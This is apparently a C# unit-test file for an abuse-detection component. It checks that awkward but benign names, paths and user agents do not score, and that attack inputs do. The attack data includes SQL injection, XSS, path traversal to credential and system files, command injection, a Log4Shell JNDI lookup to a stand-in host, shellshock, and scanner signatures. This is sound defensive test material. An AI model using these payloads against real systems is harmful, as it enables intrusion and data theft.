using Pynomaly.Identity.Abuse;
using Xunit;

namespace Pynomaly.Identity.Tests.Abuse;

/// <summary>What scores and what does not: people have awkward names and clients awkward addresses, and none of them is an attack.</summary>
public sealed class ProbeSignalsTests
{
    /// <summary>Names that people sign in with, and what they type into the wrong field.</summary>
    public static TheoryData<string> Names =>
    [
        "O'Brien", "D'Arcy-O'Neil", "Null", "null@null.com", "select", "Drop", "table", "union", "Robert Tables", "or", "1=1", "'; --", "--", "admin", "root", "script", "Script Kiddie", "Insert Coin",
        "delete@example.org", "select.from@where.example", "sleep@night.example", "benchmark@example.org", "exec@example.org", "a+b@example.org", "a%b@example.org", "100%", "%2e", "50% off", "user%40example.org",
        "\"quoted name\"@example.org", "o'or'1@example.org", "!#$%&'*+/=?^_`{|}~@example.org", "<ada@example.org>", "Ada <ada@example.org>", "Łukasz", "山田太郎", "やまだ", "Иван", "Ωμέγα", "محمد", "Nguyễn Văn A",
        "Ada\u0301", "🦀", "C:\\Users\\ada", "DOMAIN\\ada", "../ada", "a/b", "a..b", "ada.", "ada;drop", "x' y", "union select committee", "Union Select Ltd", "Select * Co", "cat /etc", "file://", "${user}", "{{name}}",
        "javascript", "onload", "alert(1)", "Mr. <3", "a < b > c", "SELECT name FROM people", "insert into box", "correct horse' battery\" staple; --", "p@ss'word or \"1\"", "{\"user\":\"ada\"}", "=cmd", "@import",
        new string('a', 5000), new string('\'', 5000), new string('%', 5000), new string(' ', 5000),
    ];

    /// <summary>Paths that browsers, mail programs, old links and misplaced applications ask for in good faith, and that this server does not have.</summary>
    public static TheoryData<string> Paths =>
    [
        "/", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/apple-touch-icon.png", "/apple-touch-icon-precomposed.png", "/ads.txt", "/humans.txt", "/browserconfig.xml", "/manifest.json", "/sw.js",
        "/.well-known/security.txt", "/.well-known/change-password", "/.well-known/assetlinks.json", "/.well-known/apple-app-site-association", "/.well-known/openid-configuration/", "/.well-known/acme-challenge/x",
        "/.well-known/traffic-advice", "/autodiscover/autodiscover.xml", "/Autodiscover/Autodiscover.xml", "/wp-content/uploads/2019/logo.png", "/feed/", "/rss", "/appsettings.json", "/config.json", "/index.html",
        "/index.php", "/login", "/Login.aspx", "/oauth/authorize", "/auth/realms/master", "/api/select", "/users/O'Brien", "/users/null", "/drop/table", "/union/select", "/scripts/app.js", "/js/script.js",
        "/search/1%20or%201", "/a%2Fb", "/caf%C3%A9", "/%E5%B1%B1%E7%94%B0", "/%", "/%zz", "/100%25", "/a+b", "/connect/token/", "/CONNECT/TOKEN", "/environment", "/git", "/admin", "/administrator", "/backup", "/test",
        "/account/;jsessionid=1", "/signin?return=/account", "/file..name", "/a...b",
    ];

    /// <summary>Browsers and libraries.</summary>
    public static TheoryData<string> Agents =>
    [
        "", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36", "curl/8.5.0", "python-requests/2.32.3", "Go-http-client/1.1", "okhttp/4.12.0", "PostmanRuntime/7.43",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Prometheus/2.53.0", "kube-probe/1.30", "UptimeRobot/2.0", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; .NET CLR 1.1.4322)",
        "Java/21", "-", "'", "O'Reilly Browser", "select/1.0", "Script/2.0",
    ];

    [Theory]
    [MemberData(nameof(Names))]
    public void No_name_of_a_person_scores(string name) => Assert.Equal((0, null), ProbeSignals.OfName(name));

    [Theory]
    [MemberData(nameof(Paths))]
    public void No_path_asked_for_in_good_faith_scores(string path) => Assert.Equal((0, null), ProbeSignals.OfPath(path));

    [Theory]
    [MemberData(nameof(Agents))]
    public void No_browser_or_library_scores(string agent) => Assert.Equal((0, null), ProbeSignals.OfUserAgent(agent));

    [Theory]
    [InlineData("/.env")]
    [InlineData("/app/.env.production")]
    [InlineData("/.git/config")]
    [InlineData("/wp-login.php")]
    [InlineData("/WP-ADMIN/setup-config.php")]
    [InlineData("/phpMyAdmin/index.php")]
    [InlineData("/cgi-bin/luci/;stok=/locale")]
    [InlineData("/actuator/env")]
    [InlineData("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")]
    [InlineData("/../../etc/passwd")]
    [InlineData("/..%2f..%2fetc%2fpasswd")]
    [InlineData("/%2e%2e/%2e%2e/windows/win.ini")]
    [InlineData("/..%252f..%252fetc/shadow")]
    [InlineData("/..;/manager/html")]
    [InlineData("/account/..%5c..%5cweb.config")]
    [InlineData("/x%00.png")]
    [InlineData("/<script>alert(1)</script>")]
    [InlineData("/%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("/%253Cscript%253Ealert(1)")]
    [InlineData("/users/1'%20or%20'1'='1")]
    [InlineData("/users/1%27/**/union/**/select/**/1,2")]
    [InlineData("/a;cat%20/etc/hosts")]
    [InlineData("/${jndi:ldap://x.example/a}")]
    [InlineData("/?x=1/../.env/../.git/")]
    public void An_attack_by_its_path_scores(string path) => Assert.InRange(ProbeSignals.OfPath(path).Score, 10, 60);

    [Theory]
    [InlineData("' or '1'='1")]
    [InlineData("' OR 1=1 --")]
    [InlineData("admin'--")]
    [InlineData("x' UNION   SELECT null,null--")]
    [InlineData("x'; DROP TABLE users; --")]
    [InlineData("1; waitfor delay '0:0:5'")]
    [InlineData("'||pg_sleep(5)--")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("${jndi:ldap://x.example/a}")]
    [InlineData("{{7*7}}")]
    [InlineData("a|cat /etc/passwd")]
    public void An_attack_by_a_name_scores(string name) => Assert.InRange(ProbeSignals.OfName(name).Score, 10, 60);

    [Theory]
    [InlineData("sqlmap/1.8.4#stable (https://sqlmap.org)")]
    [InlineData("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)")]
    [InlineData("Mozilla/5.0 zgrab/0.x")]
    [InlineData("() { :; }; echo x")]
    [InlineData("${jndi:ldap://x.example/a}")]
    public void A_scanner_scores(string agent) => Assert.InRange(ProbeSignals.OfUserAgent(agent).Score, 10, 60);
}
